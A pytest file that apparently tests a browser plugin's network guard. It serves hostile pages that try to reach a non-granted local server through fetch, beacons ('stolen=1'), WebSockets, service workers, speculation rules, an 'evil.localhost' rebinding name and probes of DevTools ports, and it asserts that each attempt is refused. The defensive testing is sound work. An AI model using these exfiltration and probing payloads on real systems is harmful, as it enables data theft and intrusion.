"""Hostile pages against the browser's network guard (issue 12): a plugin granted one
loopback origin serves pages that try to reach a server it was not granted, by every way a
page has. Each test asserts that the non-granted server accepted ZERO connections, that the
page or the call got the refusal, and that the audit log has the `capability_denied` line.

Servers are plain HTTP servers on 127.0.0.1 started here: the granted one serves the hostile
pages, the others only count the connections they accept."""

from __future__ import annotations

import http.server
import json
import socket
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

import anyio
import psutil
import pytest

from browser_helpers import CHROMIUM, chromium_processes, denied_lines, err, listening_ports_of, ok, ref_of
from conftest import text_of

pytestmark = [pytest.mark.anyio, pytest.mark.usefixtures("chromium")]


@dataclass
class Server:
    """An HTTP server on 127.0.0.1 that serves `pages` and counts every connection."""

    server: http.server.ThreadingHTTPServer
    pages: dict[str, tuple[str, str]] = field(default_factory=dict)
    requests: list[str] = field(default_factory=list)
    connections: int = 0

    @property
    def port(self) -> int:
        return self.server.server_address[1]

    @property
    def origin(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def url(self, path: str) -> str:
        return self.origin + path

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def start_server() -> Server:
    holder: dict[str, Server] = {}

    class Handler(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def answer(self) -> None:
            site = holder["site"]
            site.requests.append(f"{self.command} {self.path}")
            path = self.path.split("?")[0]
            mime, body = site.pages.get(path, ("text/plain", "nothing here"))
            data = body.encode()
            self.send_response(200 if path in site.pages else 404)
            self.send_header("Content-Type", mime)
            self.send_header("Content-Length", str(len(data)))
            self.send_header("Cache-Control", "no-store")
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            self.wfile.write(data)

        do_GET = do_POST = do_HEAD = answer  # noqa: N815

        def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
            pass

    class Counting(http.server.ThreadingHTTPServer):
        daemon_threads = True

        def verify_request(self, request: Any, client_address: Any) -> bool:
            holder["site"].connections += 1
            return True

    server = Counting(("127.0.0.1", 0), Handler)
    site = Server(server)
    holder["site"] = site
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return site


@pytest.fixture()
def servers() -> Iterator[tuple[Server, Server]]:
    """(the granted server with the hostile pages, a server nothing grants)."""
    good, bad = start_server(), start_server()
    yield good, bad
    good.close()
    bad.close()


def page(title: str, body: str) -> tuple[str, str]:
    return "text/html; charset=utf-8", f"<!doctype html><title>{title}</title>{body}"


# Every page reports outcomes into #log as "kind: reached" or "kind: refused".
REPORT = """<pre id=log></pre><script>
function done(kind, reached) { document.getElementById('log').textContent += kind + ': ' + (reached ? 'reached' : 'refused') + '\\n'; }
</script>"""


def manifest(write_manifest, good: Server, grants: str = "", plugin: str = "browser") -> Any:
    return write_manifest(f"""
[browser]
executable = "{CHROMIUM}"

[[plugin]]
name = "{plugin}"
source = "builtin:browser"
limits = {{ call_timeout = "60s" }}
grants.browser = {{ origins = ["{good.origin}"]{grants} }}
""")


# ---------------------------------------------------------------------------- sub-resources

SUBRESOURCES: dict[str, str] = {
    "img": '<img src="BAD/i.png" onload="done(\'img\',1)" onerror="done(\'img\',0)">',
    "script": '<script src="BAD/s.js" onload="done(\'script\',1)" onerror="done(\'script\',0)"></script>',
    "fetch": "<script>fetch('BAD/f').then(() => done('fetch',1), () => done('fetch',0));</script>",
    "fetch-no-cors": "<script>fetch('BAD/f', {mode: 'no-cors'}).then(() => done('fetch-no-cors',1), () => done('fetch-no-cors',0));</script>",
    "xhr": """<script>const x = new XMLHttpRequest(); x.open('GET', 'BAD/x');
x.onload = () => done('xhr', x.status === 200); x.onerror = () => done('xhr',0); x.send();</script>""",
    "websocket": """<script>const ws = new WebSocket('ws://HOSTPORT/ws');
ws.onopen = () => done('websocket',1); ws.onerror = () => done('websocket',0);</script>""",
    "eventsource": """<script>const es = new EventSource('BAD/events');
es.onopen = () => done('eventsource',1); es.onerror = () => { es.close(); done('eventsource',0); };</script>""",
    "beacon": "<script>navigator.sendBeacon('BAD/beacon', 'stolen=1'); done('beacon',0);</script>",
    "iframe": '<iframe src="BAD/frame"></iframe><script>done(\'iframe\',0);</script>',
    "css-url": '<div style="width:50px;height:50px;background:url(BAD/bg.png)"></div><script>setTimeout(() => done(\'css-url\',0), 300);</script>',
    "font": """<style>@font-face { font-family: Evil; src: url(BAD/evil.woff2); }</style>
<p style="font-family: Evil">text</p>
<script>document.fonts.load('16px Evil').then(f => done('font', f.length > 0), () => done('font',0));</script>""",
    "favicon": '<link rel=icon href="BAD/favicon.ico"><script>setTimeout(() => done(\'favicon\',0), 300);</script>',
}


@pytest.mark.parametrize("kind", list(SUBRESOURCES))
async def test_subresources_of_every_type_are_refused(start_warden, write_manifest, servers, kind) -> None:
    good, bad = servers
    html = SUBRESOURCES[kind].replace("BAD", bad.origin).replace("HOSTPORT", f"127.0.0.1:{bad.port}")
    good.pages["/hostile"] = page("Hostile", REPORT + html)
    m = manifest(write_manifest, good)
    async with start_warden(m) as w:
        result = await w.call("browse_navigate", {"url": good.url("/hostile")}, timeout=60)
        if kind == "iframe":
            # A frame is a navigation: the origin guard reports it to the call.
            assert result.is_error and "blocked" in text_of(result), text_of(result)
        else:
            assert not result.is_error, text_of(result)
        await ok(w, "browse_wait_for", {"text": f"{kind}: refused"})
        # Give stragglers (beacons, favicons, retries) time to try.
        await anyio.sleep(1.5)
        snap = await ok(w, "browse_snapshot", {"mode": "full"})
        assert f"{kind}: reached" not in snap, snap
        assert bad.connections == 0, (bad.connections, bad.requests)
        if kind == "favicon":
            # Headless Chromium may not ask for favicons at all; when it does, it is audited.
            return
        lines = await denied_lines(m, bad.origin)
        # From the network guard ("refused N ... request(s)"), or the origin guard for a frame.
        assert all(line["decision"] == "denied" for line in lines), lines


async def test_refusals_are_aggregated_into_one_line_with_a_count(start_warden, write_manifest, servers) -> None:
    good, bad = servers
    good.pages["/flood"] = page(
        "Flood",
        REPORT
        + f"""<script>
let n = 0;
for (let i = 0; i < 200; i++) fetch('{bad.origin}/f' + i, {{mode: 'no-cors'}}).catch(() => {{ if (++n === 200) done('flood', 0); }});
</script>""",
    )
    m = manifest(write_manifest, good)
    async with start_warden(m) as w:
        await ok(w, "browse_navigate", {"url": good.url("/flood")})
        await ok(w, "browse_wait_for", {"text": "flood: refused"})
        await denied_lines(m, bad.origin)
        await anyio.sleep(1.0)
        lines = await denied_lines(m, bad.origin)
    assert bad.connections == 0
    assert len(lines) < 10, f"{len(lines)} lines for one flood"
    counts = [line["reason"] for line in lines]
    assert any("refused 2" in r or "refused 1" in r for r in counts), counts


# ---------------------------------------------------------------------------- speculation rules


async def test_speculation_rules_prerender_and_prefetch_then_click(start_warden, write_manifest, servers) -> None:
    good, bad = servers
    rules = json.dumps(
        {
            "prerender": [{"source": "list", "urls": [bad.url("/prerendered")], "eagerness": "immediate"}],
            "prefetch": [{"source": "list", "urls": [bad.url("/prefetched")], "eagerness": "immediate"}],
        }
    )
    bad.pages["/prerendered"] = page("Prerendered", "<h1>You should never see this</h1>")
    good.pages["/spec"] = page(
        "Speculation",
        f'<script type="speculationrules">{rules}</script><a href="{bad.url("/prerendered")}">Leave</a>',
    )
    m = manifest(write_manifest, good)
    async with start_warden(m) as w:
        snap = await ok(w, "browse_navigate", {"url": good.url("/spec")})
        await anyio.sleep(2.0)
        refused = await err(w, "browse_click", {"ref": ref_of(snap, "link", "Leave")})
        assert "blocked" in refused and bad.origin in refused, refused
        after = await ok(w, "browse_snapshot", {"mode": "full"})
        assert "You should never see this" not in after, after
        assert bad.connections == 0, bad.requests
        await denied_lines(m, bad.origin)


# ---------------------------------------------------------------------------- service workers


async def test_service_worker_cannot_reach_out(start_warden, write_manifest, servers) -> None:
    good, bad = servers
    good.pages["/sw.js"] = (
        "text/javascript",
        f"""
fetch('{bad.url("/from-worker-top")}', {{mode: 'no-cors'}}).catch(() => {{}});
self.addEventListener('install', e => e.waitUntil(
  fetch('{bad.url("/from-worker-install")}', {{mode: 'no-cors'}}).catch(() => {{}})));
self.addEventListener('activate', e => e.waitUntil(self.clients.claim()));
""",
    )
    good.pages["/sw"] = page(
        "Worker",
        REPORT
        + """<script>
navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready)
  .then(() => done('worker-installed', 1), e => done('worker-installed', 0));
</script>""",
    )
    m = manifest(write_manifest, good)
    async with start_warden(m) as w:
        await ok(w, "browse_navigate", {"url": good.url("/sw")})
        await ok(w, "browse_wait_for", {"text": "worker-installed: reached"})
        await denied_lines(m, bad.origin)
        assert bad.connections == 0, bad.requests
        assert "GET /sw.js" in good.requests, good.requests


# ---------------------------------------------------------------------------- DevTools



async def test_no_page_reaches_the_browser_debugging_interface(start_warden, write_manifest, servers) -> None:
    good, _ = servers
    # The widest loopback grant there is: every port of 127.0.0.1 and localhost.
    m = manifest(write_manifest, good, ', resource_origins = ["http://127.0.0.1:*", "http://localhost:*"]')
    async with start_warden(m) as w:
        await ok(w, "browse_navigate", {"url": good.url("/nothing")})
        browsers = chromium_processes(w.pid)
        assert browsers, "the browser runs"
        for proc in browsers:
            try:
                cmdline = proc.cmdline()
            except psutil.Error:  # a renderer that exited meanwhile
                continue
            with_port = [a for a in cmdline if a.startswith("--remote-debugging-port")]
            assert not with_port, f"the browser listens for DevTools on a port: {cmdline}"
        # In the test's network and in the browser's own (where its guards listen, as root).
        networks = [w.pid] + [p.pid for p in browsers]
        ports = listening_ports_of([p.pid for p in browsers], networks)
        assert not ports, f"the browser listens on TCP ports {ports}"
        # Warden's own sockets (the guards) are not reachable from pages either.
        own = listening_ports_of([w.pid], networks)
        assert own, "the network guards listen on loopback"
        for port in sorted(own):
            good.pages["/probe"] = page(
                "Probe",
                REPORT
                + f"""<script>
fetch('http://127.0.0.1:{port}/json/list').then(r => r.text()).then(t => done('port {port} ' + t.slice(0, 40), 1), () => done('port {port}', 0));
</script>""",
            )
            await ok(w, "browse_navigate", {"url": good.url("/probe")})
            await ok(w, "browse_wait_for", {"text": f"port {port}"})
            snap = await ok(w, "browse_snapshot", {"mode": "full"})
            assert f"port {port}: refused" in snap, snap
        await denied_lines(m, "http://127.0.0.1:")


# ---------------------------------------------------------------------------- private networks


def resolves(name: str) -> bool:
    try:
        socket.getaddrinfo(name, 80)
        return True
    except OSError:
        return False


async def test_public_glob_does_not_open_loopback_by_name(start_warden, write_manifest, servers) -> None:
    good, bad = servers
    evil = f"http://evil.localhost:{bad.port}"
    bad.pages["/x"] = page("Evil", "<h1>You should never see this</h1>")
    good.pages["/rebind"] = page(
        "Rebind",
        REPORT
        + f"""<img src="{evil}/i.png" onload="done('by-name img',1)" onerror="done('by-name img',0)">
<script>fetch('{evil}/f').then(() => done('by-name fetch',1), () => done('by-name fetch',0));
fetch('{bad.origin}/f').then(() => done('by-ip fetch',1), () => done('by-ip fetch',0));</script>""",
    )
    # The public web, granted as broadly as it gets, for pages and sub-resources.
    m = manifest(write_manifest, good, ', resource_origins = ["http://*:*", "https://*"]')
    async with start_warden(m) as w:
        await ok(w, "browse_navigate", {"url": good.url("/rebind")})
        await ok(w, "browse_wait_for", {"text": "by-name fetch: refused"})
        await ok(w, "browse_wait_for", {"text": "by-name img: refused"})
        await ok(w, "browse_wait_for", {"text": "by-ip fetch: refused"})
        lines = await denied_lines(m, "evil.localhost")
        assert any("loopback" in line["reason"] for line in lines), lines
        await denied_lines(m, bad.origin)
    assert bad.connections == 0, bad.requests

    # The same as a navigation: the guard's refusal is the page the tab shows.
    m = write_manifest(f"""
[browser]
executable = "{CHROMIUM}"

[[plugin]]
name = "browser"
source = "builtin:browser"
grants.browser = {{ origins = ["{good.origin}", "http://*:*"] }}
""")
    async with start_warden(m) as w:
        result = await w.call("browse_navigate", {"url": evil + "/x"}, timeout=60)
        snap = await ok(w, "browse_snapshot", {"mode": "full"})
        assert "You should never see this" not in snap, snap
        assert "network guard refused" in snap or result.is_error, snap
        lines = await denied_lines(m, "evil.localhost")
        assert any("loopback" in line["reason"] for line in lines), lines
    assert bad.connections == 0, bad.requests


async def test_http_get_public_glob_resolving_to_loopback(start_warden, write_manifest, servers) -> None:
    _, bad = servers
    m = write_manifest("""
[[plugin]]
name = "capture"
source = "builtin:capture"
grants.capture = { http_hosts = ["*", "*:*"] }
""")
    async with start_warden(m) as w:
        for url in (f"http://evil.localhost:{bad.port}/x", bad.url("/x"), f"http://[::ffff:127.0.0.1]:{bad.port}/x"):
            refused = await err(w, "http_get", {"url": url})
            assert "private networks are closed" in refused, refused
        lines = [line for line in m.audit_lines() if line["event"] == "capability_denied"]
        assert len(lines) >= 3 and all("loopback" in line["reason"] for line in lines), lines
    assert bad.connections == 0, bad.requests

    # Named literally, it is reachable.
    bad.pages["/x"] = ("text/plain", "fine")
    m = write_manifest(f"""
[[plugin]]
name = "capture"
source = "builtin:capture"
grants.capture = {{ http_hosts = ["127.0.0.1:{bad.port}"] }}
""")
    async with start_warden(m) as w:
        assert "fine" in await ok(w, "http_get", {"url": bad.url("/x")})
    assert bad.connections >= 1


# ---------------------------------------------------------------------------- what still works


async def test_multi_origin_page_renders_with_resource_origins(start_warden, write_manifest, servers) -> None:
    good, cdn = servers
    cdn.pages["/app.js"] = ("text/javascript", "document.getElementById('out').textContent = 'Rendered by the CDN script';")
    cdn.pages["/style.css"] = ("text/css", "#out { color: rgb(1, 2, 3); }")
    cdn.pages["/data.json"] = ("application/json", '{"items": ["apple", "pear"]}')
    good.pages["/news"] = page(
        "News",
        f"""<link rel=stylesheet href="{cdn.url('/style.css')}">
<h1>News</h1><p id=out>waiting</p><p id=data>no data</p>
<script src="{cdn.url('/app.js')}"></script>
<script>fetch('{cdn.url('/data.json')}').then(r => r.json()).then(d => document.getElementById('data').textContent = 'Data: ' + d.items.join(', '));</script>""",
    )
    m = manifest(write_manifest, good, f', resource_origins = ["{cdn.origin}"]')
    async with start_warden(m) as w:
        await ok(w, "browse_navigate", {"url": good.url("/news")})
        await ok(w, "browse_wait_for", {"text": "Data: apple, pear"})
        snap = await ok(w, "browse_snapshot", {"mode": "full"})
        assert "Rendered by the CDN script" in snap, snap
        # A resource origin is not a navigation origin.
        refused = await err(w, "browse_navigate", {"url": cdn.url("/app.js")})
        assert "grants.browser.origins" in refused, refused
    assert {"GET /app.js", "GET /style.css", "GET /data.json"} <= set(cdn.requests), cdn.requests
